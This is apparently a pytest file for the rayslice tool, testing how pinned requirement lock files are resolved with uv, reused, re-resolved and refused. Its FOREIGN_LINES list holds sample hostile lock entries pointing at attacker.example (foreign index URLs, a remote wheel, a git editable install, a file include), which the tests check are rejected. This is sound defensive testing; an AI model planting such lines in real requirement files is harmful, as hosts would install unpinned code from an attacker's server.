"""Stack locks: the spec's `requirements` resolved on the deployer's machine with real uv against a
local index of tiny wheels (no network), stored, reused, resolved again, or refused (exit 2)."""

from __future__ import annotations

import base64
import functools
import socket
import sys

import pytest

from rayslice import cli, spec
from rayslice.errors import EXIT_INVALID, InvalidInput
from rayslice.infra import image
from rayslice.infra.preview import preview, stack_config
from rayslice.infra.program import main as program_main
from rayslice.startup_scripts import locks, pod, render
from rayslice.startup_scripts.options import PackageSource
from rayslice.startup_scripts.stack_locks import LOCK_DIR_NAME, StackLocks
from rayslice.startup_scripts.variables import install_fingerprint, preset_lock, requirement_lines
from tests.startup_scripts.conftest import STAND_IN_RAY_RELEASES


def _spec(index: str, *requirements: str, ray: str | None = None) -> spec.ClusterSpec:
    raw = {"acceleratorType": "v6e-4", "requirements": list(requirements)}
    raw |= {"packageIndex": index, "allowInsecurePackageIndex": True}
    return spec.load(raw | ({"rayVersion": ray} if ray else {}), require_zone=False)


def test_requirements_resolve_into_a_stored_lock_beside_the_preset_lock(index, tmp_path, capsys, monkeypatch):
    """With an empty PATH: uv comes from the uv package (`.venv/bin/rayslice` runs without the
    venv on PATH)."""
    monkeypatch.setenv("PATH", "")
    cluster = _spec(index, "gamma")
    store = StackLocks(tmp_path / LOCK_DIR_NAME, "dev")
    lock = store.lock(cluster)
    base = preset_lock(cluster)
    assert lock is not None and base is not None
    assert {"alpha==2.0", "beta==1.0", "gamma==1.0"} <= set(lock.pins())
    assert set(base.pins()) < set(lock.pins())  # the preset's pins, unmoved
    assert (lock.header["base"], lock.header["requirements"]) == (base.digest, "gamma")
    assert locks.parse(store.path.read_text()) == lock
    assert "resolving requirements into" in capsys.readouterr().err
    # Hosts install the stack lock alone: nothing left to resolve, the fingerprint is its digest's.
    script = render(cluster, lock=lock)
    assert base64.b64encode(lock.text.encode()).decode() in script
    assert "REQUIREMENTS=()" in script
    pod_script = pod.render_pod_start(cluster, None, lock)  # GKE's pod start script carries it too
    assert base64.b64encode(lock.text.encode()).decode() in pod_script and "REQUIREMENTS=()" in pod_script
    source = PackageSource.parse(None)
    assert install_fingerprint(cluster, source, lock) != install_fingerprint(cluster, source)


def test_a_lock_whose_header_matches_is_reused_without_resolving(index, tmp_path, capsys):
    cluster = _spec(index, "gamma")
    store = StackLocks(tmp_path / LOCK_DIR_NAME, "dev")
    store.lock(cluster)
    capsys.readouterr()
    store.path.write_text(store.path.read_text() + "# committed by the user\n")
    lock = store.lock(cluster)
    assert lock is not None and lock.body.endswith("# committed by the user\n")
    assert capsys.readouterr().err == ""


# Lines a committed lock may not hold: each would make hosts fetch or run something the hashes
# do not pin (an index, a URL, a local path, an editable install, another file, an option).
FOREIGN_LINES = [
    "--index-url http://attacker.example/simple",
    "--extra-index-url https://attacker.example/simple",
    "--find-links http://attacker.example/",
    "--trusted-host attacker.example",
    "evil @ https://attacker.example/evil-1.0-py3-none-any.whl",
    "https://attacker.example/evil-1.0-py3-none-any.whl",
    "-e git+https://attacker.example/evil.git#egg=evil",
    "-r /etc/other.txt",
    "evil>=1",
    "evil==1.0 --hash=sha256:" + "a" * 64,  # hash on the pin's line: pip accepts it, uv never writes it
    "    --hash=md5:" + "a" * 32,
]


@pytest.mark.parametrize("line", FOREIGN_LINES)
def test_a_committed_lock_with_anything_but_pins_hashes_and_comments_is_refused_and_resolved_again(
    index, tmp_path, capsys, line
):
    cluster = _spec(index, "gamma")
    store = StackLocks(tmp_path / LOCK_DIR_NAME, "dev")
    resolved = store.lock(cluster)
    capsys.readouterr()
    store.path.write_text(store.path.read_text() + line + "\n")
    lock = store.lock(cluster)
    assert lock is not None and resolved is not None and lock.pins() == resolved.pins()
    assert locks.parse(store.path.read_text()) == lock and line not in store.path.read_text()
    err = capsys.readouterr().err
    assert f"line {len(resolved.text.splitlines()) + 1} " in err and "only name==version" in err, err
    assert "resolving requirements into" in err


def test_a_changed_requirement_resolves_the_lock_again(index, tmp_path, capsys):
    store = StackLocks(tmp_path / LOCK_DIR_NAME, "dev")
    store.lock(_spec(index, "gamma"))
    capsys.readouterr()
    lock = store.lock(_spec(index, "gamma", "alpha<2"))
    assert lock is not None and "alpha==1.0" in lock.pins()
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "its header differs" in err
    assert locks.parse(store.path.read_text()) == lock


# ---- a Ray release without a shipped preset lock: the whole set is resolved here -------------

OTHER_RAY, NEWER_RAY = STAND_IN_RAY_RELEASES


@pytest.mark.parametrize("requirements", [(), ("gamma",)])
def test_a_ray_release_without_a_preset_lock_is_resolved_whole(release_index, tmp_path, capsys, requirements):
    """Hosts install a lock there too, resolving nothing: the preset's lines with that Ray release
    and the requirements, in one lock, even without any `requirements`."""
    cluster = _spec(release_index, *requirements, ray=OTHER_RAY)
    assert preset_lock(cluster) is None
    store = StackLocks(tmp_path / LOCK_DIR_NAME, "dev")
    lock = store.lock(cluster)
    assert lock is not None and "base" not in lock.header
    assert lock.requirements == requirement_lines(cluster)
    assert f"ray=={OTHER_RAY}" in lock.pins() and {"jax==0.10.3", "optax==0.2.9"} <= set(lock.pins())
    assert ("gamma==1.0" in lock.pins()) == bool(requirements)
    assert locks.parse(store.path.read_text()) == lock
    assert "resolving the whole requirement set into" in capsys.readouterr().err
    encoded = base64.b64encode(lock.text.encode()).decode()
    for script in (render(cluster, lock=lock), pod.render_pod_start(cluster, None, lock)):
        assert encoded in script and "REQUIREMENTS=()" in script
    source = PackageSource.parse(None)
    assert install_fingerprint(cluster, source, lock) != install_fingerprint(cluster, source)


def test_a_whole_lock_is_reused_and_resolved_again_for_another_ray_release(release_index, tmp_path, capsys):
    """The same rules as beside a preset lock; a changed lock (another Ray release) is what
    changes the hosts' install fingerprint, so what replaces them."""
    store = StackLocks(tmp_path / LOCK_DIR_NAME, "dev")
    first = store.lock(_spec(release_index, ray=OTHER_RAY))
    capsys.readouterr()
    assert store.lock(_spec(release_index, ray=OTHER_RAY)) == first
    assert capsys.readouterr().err == ""
    newer = _spec(release_index, ray=NEWER_RAY)
    second = store.lock(newer)
    assert second is not None and first is not None and f"ray=={NEWER_RAY}" in second.pins()
    assert "its header differs" in capsys.readouterr().err
    source = PackageSource.parse(None)
    assert install_fingerprint(newer, source, second) != install_fingerprint(newer, source, first)


def test_a_ray_release_the_index_does_not_serve_is_refused(release_index, tmp_path):
    store = StackLocks(tmp_path / LOCK_DIR_NAME, "dev")
    refusal = r"cannot be locked.*ray.*fix the requirements or rayVersion"
    with pytest.raises(InvalidInput, match=refusal) as refused:
        store.lock(_spec(release_index, ray="2.49.0"))
    assert refused.value.exit_code == EXIT_INVALID and not store.path.exists()


def test_a_stack_lock_for_another_platform_is_refused():
    """A program that passes a lock of its own (`TpuRayClusterArgs.lock`) made for other hosts."""
    cluster = spec.load({"acceleratorType": "v6e-4"}, require_zone=False)
    base = preset_lock(cluster)
    assert base is not None
    arm = locks.Lock({**base.header, "platform": "aarch64-manylinux_2_35"}, base.body)
    with pytest.raises(InvalidInput, match=r"stack lock is for Python 3.11 on aarch64.*x86_64") as refused:
        render(cluster, lock=arm)
    assert refused.value.exit_code == EXIT_INVALID


@pytest.mark.parametrize("line", FOREIGN_LINES[:3])
def test_a_stack_lock_a_program_passes_with_a_foreign_line_is_refused(line):
    """`TpuRayClusterArgs.lock` is checked as a committed lock is read: pins, hashes, comments."""
    cluster = spec.load({"acceleratorType": "v6e-4"}, require_zone=False)
    base = preset_lock(cluster)
    assert base is not None
    with pytest.raises(
        InvalidInput, match=r"the stack lock cannot be installed: line \d+ is .*only name==version"
    ):
        render(cluster, lock=locks.Lock(base.header, base.body + line + "\n"))


def test_no_requirements_no_stack_lock(tmp_path):
    cluster = spec.load({"acceleratorType": "v6e-4"}, require_zone=False)
    assert StackLocks(tmp_path, "dev").lock(cluster) is None
    assert not tmp_path.joinpath("dev.lock").exists()


def test_requirements_that_do_not_resolve_are_refused(index, tmp_path):
    store = StackLocks(tmp_path / LOCK_DIR_NAME, "dev")
    with pytest.raises(InvalidInput, match=r"cannot be locked.*alpha.*fix the requirements") as refused:
        store.lock(_spec(index, "alpha>5"))
    assert refused.value.exit_code == EXIT_INVALID and not store.path.exists()


@pytest.mark.parametrize("ray", [None, OTHER_RAY])
def test_an_index_that_does_not_answer_is_refused(tmp_path, monkeypatch, ray):
    monkeypatch.setenv("UV_HTTP_RETRIES", "0")  # uv's own setting: refused at once, not after retries
    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]
    store = StackLocks(tmp_path / LOCK_DIR_NAME, "dev")
    unreachable = r"make the index http://127.0.0.1:\d+/simple reachable"
    with pytest.raises(InvalidInput, match=unreachable) as refused:
        store.lock(_spec(f"http://127.0.0.1:{port}/simple", "alpha", ray=ray))
    assert refused.value.exit_code == EXIT_INVALID and not store.path.exists()


@pytest.mark.parametrize("ray", [None, OTHER_RAY])
def test_a_lock_too_large_for_metadata_is_refused(release_index, tmp_path, ray):
    """A stored lock whose header matches, with thousands of pinned packages: the boot script
    that would carry it exceeds a metadata value, so it is refused before anything is created."""
    cluster = _spec(release_index, "gamma", ray=ray)
    store = StackLocks(tmp_path / LOCK_DIR_NAME, "dev")
    lock = store.lock(cluster)
    assert lock is not None
    many = "".join(f"package-number-{i}==1.0 \\\n    --hash=sha256:{'a' * 64}\n" for i in range(3000))
    store.path.write_text(lock.text + many)
    with pytest.raises(InvalidInput, match=r"does not fit .*GCE metadata allows 262144.*fewer requirements"):
        store.lock(cluster)


@pytest.mark.parametrize("ray", [None, OTHER_RAY])
def test_without_uv_the_lock_is_refused(release_index, tmp_path, monkeypatch, ray):
    monkeypatch.setitem(sys.modules, "uv", None)  # the uv package is not installed
    monkeypatch.setenv("PATH", "")
    with pytest.raises(InvalidInput, match="uv is not installed: pip install uv"):
        StackLocks(tmp_path / LOCK_DIR_NAME, "dev").lock(_spec(release_index, "gamma", ray=ray))


def test_for_stack_file_finds_the_project_beside_pulumi_yaml(tmp_path):
    (tmp_path / "Pulumi.yaml").write_text("name: x\n")
    (tmp_path / "infra").mkdir()
    store = StackLocks.for_stack_file(str(tmp_path / "infra" / "Pulumi.dev.yaml"))
    assert store.path == tmp_path.resolve() / LOCK_DIR_NAME / "dev.lock"


def _strings(value: object) -> list[str]:
    if isinstance(value, dict):
        return [text for item in value.values() for text in _strings(item)]
    if isinstance(value, list):
        return [text for item in value for text in _strings(item)]
    return [value] if isinstance(value, str) else []


@pytest.mark.parametrize("setting", ['requirements=["gamma"]', f"rayVersion={OTHER_RAY}"])
def test_the_program_puts_the_stack_lock_into_the_hosts_metadata(release_index, tmp_path, setting):
    store = StackLocks(tmp_path / LOCK_DIR_NAME, "dev")
    config = stack_config(None, [setting, f"packageIndex={release_index}"])
    config |= stack_config(None, ["allowInsecurePackageIndex=true", "zone=us-east5-b", "project=my-project"])
    found = preview(config, lambda: program_main(store.lock))
    lock = locks.parse(store.path.read_text())
    encoded = base64.b64encode(lock.text.encode()).decode()
    scripts = [text for r in found.registrations for text in _strings(r.inputs) if "LOCK_DIGEST=" in text]
    assert scripts and all(encoded in script for script in scripts)


def test_preview_refuses_requirements_that_do_not_resolve_before_anything_is_shown(index, tmp_path, capsys):
    stack = tmp_path / "Pulumi.dev.yaml"
    stack.write_text(
        "config:\n  rayslice:acceleratorType: v6e-4\n  rayslice:zone: us-east5-b\n"
        "  rayslice:project: my-project\n"
        f"  rayslice:packageIndex: {index}\n  rayslice:allowInsecurePackageIndex: true\n"
        "  rayslice:requirements:\n    - alpha>5\n"
    )
    assert cli.main(["preview", "--stack-file", str(stack)]) == EXIT_INVALID
    out, err = capsys.readouterr()
    assert "cannot be locked" in err and "gcp." not in out
    assert not (tmp_path / LOCK_DIR_NAME / "dev.lock").exists()


def test_the_image_program_bakes_the_stack_lock_and_is_named_after_it(index, tmp_path):
    """The image holds what the hosts install: the builder's script carries the stack lock, and the
    image's name follows its digest (the hosts' install fingerprint), not the preset lock alone."""
    store = StackLocks(tmp_path / LOCK_DIR_NAME, "dev")
    settings = ['requirements=["gamma"]', f"packageIndex={index}", "allowInsecurePackageIndex=true"]
    settings += ["acceleratorType=v6e-16", "zone=us-east5-b", "project=img-project"]
    config = {**stack_config(None, settings), f"{image.PHASE_NAMESPACE}:{image.PHASE_KEY}": "image"}
    found = preview(config, functools.partial(image.main, store.lock))
    cluster = spec.load_cli(None, settings)
    lock = store.lock(cluster)
    assert lock is not None
    (disk_image,) = [r for r in found.registrations if r.type == "gcp:compute/image:Image"]
    assert disk_image.inputs["name"] == image.image_name(cluster, lock) != image.image_name(cluster)
    encoded = base64.b64encode(lock.text.encode()).decode()
    assert any(encoded in text for r in found.registrations for text in _strings(r.inputs))
